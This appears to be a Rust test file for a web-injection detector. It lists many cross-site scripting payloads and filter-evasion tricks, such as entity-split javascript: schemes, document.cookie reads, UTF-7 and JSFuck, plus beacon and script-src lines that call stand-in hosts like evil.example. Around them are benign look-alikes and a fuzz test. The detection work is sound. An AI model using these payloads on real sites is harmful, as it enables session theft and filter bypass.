use super::*;
use crate::attacks::{Place, Sensitivity::*};

/// A deterministic xorshift64* generator (`token_analysis::test_rng` is private to its module).
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_F491_4F6C_DD1D)
    }
    fn below(&mut self, n: u64) -> u64 {
        self.next() % n.max(1)
    }
    fn byte(&mut self) -> u8 {
        self.next() as u8
    }
}

/// The lowest level at which `text` (already decoded) is flagged.
fn level(text: &str) -> Level {
    let lower = text.to_ascii_lowercase();
    let subject = Subject::plain(text.as_bytes(), lower.as_bytes(), Place::Query);
    [Low, Medium, High].into_iter().find(|&s| detect(&subject, s))
}

#[track_caller]
fn at_level(want: Sensitivity, cases: &[&str]) {
    for case in cases {
        assert_eq!(level(case), Some(want), "{case:?}");
    }
}

#[test]
fn unmistakable_markup_is_low() {
    at_level(
        Low,
        &[
            "<script>go()</script>",
            "<SCRIPT SRC=//evil.example/x.js>",
            "\"><script+src=\"//evil.example/cb?f=run\"></script>",
            "<img src=nope onerror=steal()>",
            "<svg/onload=run(1)>",
            "<body\tonpageshow=go()>",
            "<iframe src=//evil.example>",
            "<object data=//evil.example/x.swf>",
            "<a href=\"jav\tascript:go(1)\">x</a>",
            "<a href=' \u{1}javascript:go(1)'>x</a>",
            "<form><button formaction=javascript:go(2)>go",
            "<iframe srcdoc=\"x\" src=\"data:text/html;base64,AAAA\">",
            "<div style=\"width: expression(go(1))\">",
            "<meta http-equiv=refresh content=\"0;url=javascript:go(3)\">",
            "javascript:go(1)",
            "  vbscript:msgbox(1)",
            "<x onmouseover=\"go()\">hover",
            "x<script>",
            "\";alert(1)//",
            "'-confirm`1`-'",
            "jav&TAB;ascript&colon;go()",
        ],
    );
}

#[test]
fn script_fragments_and_breakouts_are_medium() {
    at_level(
        Medium,
        &[
            "'-foo(1)-'",
            "'}));next(2)//",
            "alert`1`",
            "(prompt)(1)",
            "[7].find(alert)",
            "a=alert,a(1)",
            "top['al'+'ert'](1)",
            "self[/pro/.source+/mpt/.source](1)",
            "x=document.cookie",
            "new Image().src='//e.example/?'+document.domain",
            "window.location='//evil.example'",
            "top.location.href='//evil.example'",
            "x=parent.name;",
            "location=name",
            "[].constructor.constructor('go()')()",
            "el.innerHTML=payload",
            "navigator.sendBeacon('//e.example', 1)",
            "eval(atob('Z28oKQ=='))",
            "${setTimeout('go()')}",
            "';nextStep(1)//",
            "</script><b>",
            "\" onfocus=go() autofocus=\"",
            "x\" autofocus/onfocus=go()//",
            "onmouseover",
            "OnPageShow",
            "<svg><animate attributeName=x>",
            "<style>@import 'x';</style>",
            "<base href=//evil.example/>",
            "<!--[if gte IE 4]><b>x</b><![endif]-->",
            "+ADw-script+AD4-go()",
            "see javascript:go(1) here",
            "text data:text/html,<b>hi</b> end",
            "\"><b title=x>bold</b>",
            "<img src=cat.png>",
            "<video><source src=x.mp4></video>",
            "<div style=\"background:url(x.png)\">x</div>",
            "<details open ontoggle>x",
            "<!DOCTYPE html><b>x</b>",
            "<?xml-stylesheet type=\"text/xsl\" href=\"#\"?>",
            "<html xmlns:v>",
            "<a xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"x //e.example/a.xsd\"/>",
            "<xsl:template match=\"/\">",
            "<a href=\"data:application/octet-stream;base64,AAAA\">x</a>",
            "<![endif]-->",
            "document /*x*/ . cookie",
            "(document)[\"cookie\"]",
            "self /*a*/ [ /*b*/ 'go' ](1)",
            "new Function('go()')()",
            "[].map.call`${eval}x`",
            "[ ] . sort . call ` ${ alert } 1 `",
            "(![]+[])[+!![]]",
            "ja\tvascript:",
            "\"onzoom=",
            "'formaction=//evil.example",
            "onload=",
            "<!--#echo var=\"x\"-->",
            "x:url(javascript",
        ],
    );
}

#[test]
fn evasions_and_breakouts_of_round_two_are_medium() {
    at_level(
        Medium,
        &[
            // Element names spelled letter by letter, which only filters read.
            "q=<f o r m",
            "x <d i a l o g",
            "<i f r a m e",
            // A comment closed as the whole value, or in a run that closes every context.
            "-->",
            " --><b>x",
            "//[\"'`-->]]>]",
            "x']]>-->",
            // Script schemes split by entities the decoder does not know in that case.
            "ja&tab;vascript: ",
            "v&newline;b&tab;s&newline;c&newline;r&tab;i&tab;p&newline;t&colon;:",
            // Closers of raw-text and inert elements: what follows is fresh markup.
            "</style>",
            "</textarea><b>",
            "</title>",
            "</xmp>",
            "</template>",
            // Namespaced markup, opened or closed, and an empty prefix.
            "<svg:svg>",
            "</svg:g>",
            "  </xsl:template>",
            "<:vmlframe>",
            "xmlns:svg=\"http://www.w3.org/2000/svg\">",
            "x xmlns=\"http://www.w3.org/1999/xhtml\"",
            // A handler inside the tag the page opened, spelled as a closing tag.
            "<q </onxyz=1",
            // Dangling markup left open at the value's end.
            "n=<a href=\"next\"",
            "<img src='//e.example/?",
            // A data URL whose content is markup.
            " data: , <q>",
            // A declaration without its `<`.
            "x!ENTITY % y SYSTEM",
            // UTF-7 `<` whose `+` was encoded again, or read as a space.
            "%2BADw-script%2BAD4-",
            " ADw-script AD4-",
            // JSFuck atoms.
            "+!![]",
            "x=!+[]",
            // The conversion hooks replaced.
            "\"in valueOf=",
            "toString=go",
            // An attribute injected with its value left to the page, under a handler name newer than the table.
            "  onnewevent= ",
            // Junk glued to the name of an element that changes how the page parses.
            "x=<noscript#",
            "<noscript><p title=\"x\">",
            // Links to hosts written to slip past filters.
            "<a href=\"http://1113982867/\">x</a>",
            "<a href=\"http://0x42.0x0000066.0x7.0x93/\">x</a>",
            "<a href=\"http://0102.0146.0007.00000223/\">x</a>",
            "<a href=\"ht\ttp://example.com/\">x</a>",
        ],
    );
}

#[test]
fn high_bit_markup_is_medium() {
    // US-ASCII with the high bit set: `¼script¾` is `<script>` to a decoder that drops it.
    let text = b"\xbcscript\xbego()\xbc/script\xbe";
    let lower = text.to_ascii_lowercase();
    let subject = Subject::plain(text, &lower, Place::Query);
    assert!(detect(&subject, Medium) && !detect(&subject, Low));
    let text = b"x\xbcq\xbe(1)";
    let lower = text.to_ascii_lowercase();
    assert!(detect(&Subject::plain(text, &lower, Place::Query), Medium));
    // Latin-1 fractions next to words are text.
    let text = b"1\xbc inch, \xbcpound";
    let lower = text.to_ascii_lowercase();
    assert!(!detect(&Subject::plain(text, &lower, Place::Query), Medium));
}

#[test]
fn round_two_look_alikes_stay_below_medium() {
    for case in [
        "step 1 --> step 2",
        "use \"-->\" for arrows",
        "--> see below",
        "ADW-X200 adapter",
        "part ADW-12",
        "Wow!![](x.png)",
        "![](https://example.com/a.png)",
        "![alt](a.png) and [link]()",
        "obj.valueOf = f",
        "x == valueOf",
        "</option>",
        "a <b c d> e",
        "<b>bold</b> and <a href=\"https://example.com\">a link</a>",
        "Missing data: none",
        "xmlns is an attribute",
        "AT&T and ja&co",
        "the <a> tag",
        "List<Object> items",
        "if a <b and c>d",
        "onboarding=",
        "see onboarding= below",
        "<a href=\"http://10.0.0.1/\">router</a>",
        "<a href=\"https://example.com/0x42\">x</a>",
        "½ cup, ¼ teaspoon",
    ] {
        assert_ne!(level(case), Some(Low), "{case:?}");
        assert_ne!(level(case), Some(Medium), "{case:?}");
    }
}

#[test]
fn weak_signals_are_high() {
    at_level(
        High,
        &[
            "<b>bold</b>",
            "<body>",
            "<h1>Title</h1>",
            "<a href=\"https://example.com\">x</a>",
            "List<Object> items",
            "<b title=\"data:image/png;base64,AAAA\">x</b>",
            "<![CDATA[x]]>",
            "step 1 --> step 2",
            "<?xml version=\"1.0\"?><x/>",
            "<svg></svg>",
        ],
    );
}

#[test]
fn benign_look_alikes_pass_at_medium() {
    for case in [
        "h2<h1",
        "a < b > c",
        "x<3",
        "<3 you",
        "I <love> this",
        "<john@example.com>",
        "John Smith <john.smith@example.com>",
        "1 < 2 and 3 > 2",
        "if (a<b && c>d) return",
        "javascript basics",
        "JavaScript: Basics of JavaScript Language",
        "Learn JavaScript: it's fun",
        "onboarding",
        "on=1",
        "online=yes",
        "one two",
        "**bold** and _italic_ with [a link](https://example.com/a?b=c)",
        "# Heading\n\n- item\n- item 2\n\n`code`",
        "Map<String, Object> values",
        "Please confirm (by Friday)",
        "alert(s) raised",
        "use alert() sparingly",
        "sort=parent.name,created_at",
        "The parent.name field",
        "Set an alert for 9am",
        "O'Brien - Smith",
        "the document.pdf file",
        "top[10] results",
        "location=Paris",
        "regular expression (regex) tips",
        "print the document, then sign it",
        "select a plan; drop-down; union station",
        "<<< back",
        "->",
        "x => x * 2",
        "price < 10 EUR",
        "window.open is blocked by the browser",
        "behavior: polite",
        "I <3 <img> tags",
        "Sign the document. Location: Berlin",
        "VGhhbmtzIGFsbA/onafe=",
        "wow!! [sic] (really!)",
        "<?xpacket begin=\"\"?><x:xmpmeta xmlns:x=\"adobe:ns:meta/\">",
        "Tap [OK] (twice) !!",
        "a <b c d> e",
    ] {
        assert_ne!(level(case), Some(Low), "{case:?}");
        assert_ne!(level(case), Some(Medium), "{case:?}");
    }
}

#[test]
fn xml_bodies_expect_prologs_and_namespaces() {
    let documents = [
        &b"<?xml-stylesheet type=\"text/xsl\" href=\"#s\"?>"[..],
        b"<!DOCTYPE note>",
        b"<x xmlns:h=\"http://www.w3.org/1999/xhtml\"/>",
    ];
    for text in documents {
        let lower = text.to_ascii_lowercase();
        let xml = Subject::plain(text, &lower, Place::Xml);
        assert!(!detect(&xml, Medium), "{:?}", String::from_utf8_lossy(text));
        let json = Subject::plain(text, &lower, Place::Json);
        assert!(detect(&json, Medium), "{:?}", String::from_utf8_lossy(text));
    }
}

#[test]
fn nothing_without_markup_or_code() {
    for case in ["", "hello", "12345", "a@b.c", "http://example.com/path?x=1"] {
        assert_eq!(level(case), None, "{case:?}");
    }
}

#[test]
fn decoding_is_looked_through_and_raw_lexed_too() {
    let raw = b"&lt;script&gt;go()&lt;/script&gt;";
    let decoded = b"<script>go()</script>";
    let lower = decoded.to_ascii_lowercase();
    let subject = Subject {
        raw,
        decoded,
        lower: &lower,
        bytes: crate::attacks::ByteSet::ALL,
        is_name: false,
        place: Place::Json,
    };
    assert!(detect(&subject, Low));
    // A lone `<` encoded beyond its place's decoding is a probe; as typed it is only a weak signal.
    let probe = Subject {
        raw: b"&#x3c;",
        decoded: b"<",
        lower: b"<",
        bytes: crate::attacks::ByteSet::ALL,
        is_name: false,
        place: Place::Json,
    };
    assert!(detect(&probe, Medium) && !detect(&probe, Low));
    let typed = Subject {
        raw: b"<",
        decoded: b"<",
        lower: b"<",
        bytes: crate::attacks::ByteSet::ALL,
        is_name: false,
        place: Place::Query,
    };
    assert!(detect(&typed, High) && !detect(&typed, Medium));
}

#[test]
fn names_skip_value_only_rules() {
    let lower = b"onload";
    let name = Subject {
        raw: b"onLoad",
        decoded: b"onLoad",
        lower,
        bytes: crate::attacks::ByteSet::ALL,
        is_name: true,
        place: Place::Query,
    };
    assert!(!detect(&name, Medium));
}

#[test]
fn arbitrary_bytes_never_panic() {
    let mut rng = Rng(0x5eed_7855);
    let seeds: [&[u8]; 7] = [
        b"<img src=x onerror=alert(1)>",
        b"\"';alert`1`//</script><svg/onload=go()>",
        b"<a href=\"jav&#x09;ascript:go()\" style=\"x:expression(1)\">",
        b"<!--[if]><?xml:namespace <![CDATA[ top['a'](1) location=name",
        b"javascript:/*\t*/data:text/html,<",
        b"constructor.constructor(document.cookie)",
        b"</onx = <:vmlframe ja&tab;vascript&colon; \xbcscript\xbe \"'`-->]]> !![] %2BADw-x <a href='http://0x7f.1/",
    ];
    for round in 0..4000 {
        let mut buf: Vec<u8> = if round % 2 == 0 {
            seeds[round % seeds.len()].to_vec()
        } else {
            (0..rng.below(96)).map(|_| rng.byte()).collect()
        };
        for _ in 0..rng.below(8) {
            if buf.is_empty() {
                break;
            }
            let at = rng.below(buf.len() as u64) as usize;
            match rng.below(3) {
                0 => buf[at] = rng.byte(),
                1 => {
                    buf.remove(at);
                }
                _ => buf.insert(at, b"<>\"'=/(`:;"[rng.below(10) as usize]),
            }
        }
        let cut = rng.below(buf.len() as u64 + 1) as usize;
        for text in [&buf[..], &buf[..cut], &buf[cut..]] {
            let lower = text.to_ascii_lowercase();
            let subject = Subject {
                raw: text,
                decoded: text,
                lower: &lower,
                bytes: crate::attacks::ByteSet::ALL,
                is_name: round % 3 == 0,
                place: Place::Body,
            };
            for s in [Low, Medium, High] {
                let _ = detect(&subject, s);
            }
        }
    }
}
